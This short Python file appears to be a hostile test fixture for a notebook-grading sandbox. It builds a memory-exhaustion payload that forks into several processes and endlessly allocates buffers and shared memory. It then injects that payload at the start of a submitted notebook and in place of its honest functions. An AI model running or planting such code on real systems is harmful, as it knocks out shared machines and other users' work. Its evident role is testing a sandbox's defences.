"""Take all memory: at once, bit by bit, and in several processes."""

from assignments.hostile import first, replaced

AT_ONCE = "taken = bytearray(10**12)"
ATTACK = """
import mmap
import os
import time

def attack(*arguments, **options):
    for _ in range(4):
        os.fork()
    taken = []
    while True:
        try:
            taken.append(bytearray(10**7))
            shared = mmap.mmap(-1, 10**7)
            shared.write(bytes(10**7))
            taken.append(shared)
        except (MemoryError, OSError):
            time.sleep(1)
"""


def spoil(notebook, honest):
    """Take memory before everything, and whenever another function is called."""
    notebook = first(notebook, AT_ONCE, ATTACK + "\nattack()")
    return replaced(notebook, honest, ATTACK)
